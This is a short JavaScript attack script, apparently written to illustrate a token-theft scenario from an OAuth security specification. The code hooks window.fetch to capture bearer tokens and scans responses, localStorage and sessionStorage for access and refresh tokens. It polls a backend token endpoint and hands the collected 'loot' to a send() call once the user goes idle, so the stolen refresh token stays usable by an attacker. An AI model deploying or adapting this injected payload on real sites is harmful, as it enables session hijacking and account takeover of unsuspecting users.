/*
 * RFC 10017, section 5.1.2: a script that stays takes every new token as it
 * comes. When the application no longer refreshes, the newest refresh token is
 * the attacker's alone, and rotation tells nobody.
 */
(() => {
  const newest = { attack: '5.1.2' };
  const seen = new Set();
  let sent = '';
  let quiet = 0;

  const note = (name, token) => {
    if (!token || seen.has(token)) return;
    seen.add(token);
    newest[name] = token;
    quiet = 0;
  };
  const search = (text) => {
    for (const name of ['access_token', 'refresh_token']) {
      note(name, new RegExp(`"${name}":"([\\w.~+/-]+)"`).exec(text ?? '')?.[1]);
    }
  };

  // 1. Every request of the page passes through here from now on, and every
  //    answer.
  const original = window.fetch;
  window.fetch = async (...call) => {
    const request = new Request(...call);
    note('access_token', /^(?:Bearer|DPoP) (.+)$/.exec(request.headers.get('authorization') ?? '')?.[1]);
    const answer = await original(request);
    answer.clone().text().then(search, () => {});
    return answer;
  };

  // 2. What is stored is looked at again and again: another tab may have
  //    refreshed.
  const look = () => {
    for (const storage of [localStorage, sessionStorage]) {
      for (const key of Object.keys(storage)) search(storage.getItem(key));
    }
  };

  // 3. A backend is asked for the access token, as the application does.
  original('/auth/mediated/token', { method: 'POST', headers: { 'X-CSRF': '1' } }).then(
    async (answer) => answer.ok && search(await answer.text()),
  );

  // 4. Send the newest when the user has done nothing for two seconds, and no
  //    new token has come: sending may lead the page away, and then the
  //    application refreshes no more.
  document.addEventListener('click', () => (quiet = 0), true);
  setInterval(() => {
    look();
    quiet += 100;
    const loot = JSON.stringify(newest);
    if (quiet >= 2000 && loot !== sent) {
      sent = loot;
      send(newest);
    }
  }, 100);
})();
